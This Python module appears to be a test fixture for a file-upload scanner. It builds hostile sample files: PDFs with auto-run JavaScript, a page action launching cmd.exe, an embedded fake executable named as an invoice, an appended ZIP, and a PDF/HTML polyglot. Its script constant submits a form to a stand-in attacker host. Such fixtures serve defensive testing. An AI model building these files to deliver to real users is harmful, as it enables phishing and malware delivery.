"""Files with a payload, built the way an attacker would: a sound PDF with script, launch actions, embedded
files or another file appended, scans that only look like scans."""

import io
import zipfile

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.embed import EmbeddedFileObject, FileSpec, embed_file
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

SCRIPT = "app.alert('pwned'); this.submitForm('http://attacker.invalid/');"


def pdf_bytes(text="Văn bản thử", pages=1):
    buffer = io.BytesIO()
    page = canvas.Canvas(buffer, pagesize=A4)
    for number in range(pages):
        page.drawString(72, 760, f"{text} – trang {number + 1}")
        page.showPage()
    page.save()
    return buffer.getvalue()


def _update(change, data=None):
    writer = IncrementalPdfFileWriter(io.BytesIO(data or pdf_bytes()), strict=False)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _js_action(writer):
    return writer.add_object(generic.DictionaryObject({
        generic.NameObject("/S"): generic.NameObject("/JavaScript"),
        generic.NameObject("/JS"): generic.TextStringObject(SCRIPT),
    }))


def pdf_open_action_js():
    def change(writer):
        writer.root[generic.NameObject("/OpenAction")] = _js_action(writer)
        writer.update_root()
    return _update(change)


def pdf_names_javascript():
    def change(writer):
        tree = generic.DictionaryObject({generic.NameObject("/Names"): generic.ArrayObject(
            [generic.TextStringObject("chao"), _js_action(writer)])})
        writer.root[generic.NameObject("/Names")] = writer.add_object(generic.DictionaryObject(
            {generic.NameObject("/JavaScript"): writer.add_object(tree)}))
        writer.update_root()
    return _update(change)


def pdf_page_aa_launch():
    def change(writer):
        page = writer.root["/Pages"]["/Kids"][0]
        launch = writer.add_object(generic.DictionaryObject({
            generic.NameObject("/S"): generic.NameObject("/Launch"),
            generic.NameObject("/F"): generic.TextStringObject("cmd.exe"),
        }))
        page.get_object()[generic.NameObject("/AA")] = generic.DictionaryObject({generic.NameObject("/O"): launch})
        writer.update_container(page)
    return _update(change)


def pdf_embedded_file():
    def change(writer):
        embedded = EmbeddedFileObject.from_file_data(writer, data=b"MZ\x90\x00 payload", mime_type="application/octet-stream")
        embed_file(writer, FileSpec(file_spec_string="hoa-don.exe", embedded_data=embedded))
    return _update(change)


def pdf_xfa():
    def change(writer):
        form = generic.DictionaryObject({
            generic.NameObject("/Fields"): generic.ArrayObject(),
            generic.NameObject("/XFA"): writer.add_object(generic.StreamObject(stream_data=b"<xdp:xdp/>")),
        })
        writer.root[generic.NameObject("/AcroForm")] = writer.add_object(form)
        writer.update_root()
    return _update(change)


def zip_bytes(name="payload.html", content=b"<script>alert(1)</script>"):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, content)
    return buffer.getvalue()


def pdf_with_zip_appended():
    return pdf_bytes() + zip_bytes()


def pdf_html_polyglot(marker="pwned"):
    """A sound PDF that is also an HTML page: served as text/html its script runs."""
    return pdf_bytes() + f"<html><script>document.title='{marker}'</script></html>\n".encode()


def png_bytes(size=(40, 30), fmt="PNG"):
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buffer, fmt)
    return buffer.getvalue()


PNG_HEADER_ONLY = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
FIFTEEN_BYTE_PDF = b"%PDF-1.4\n%%EOF\n"
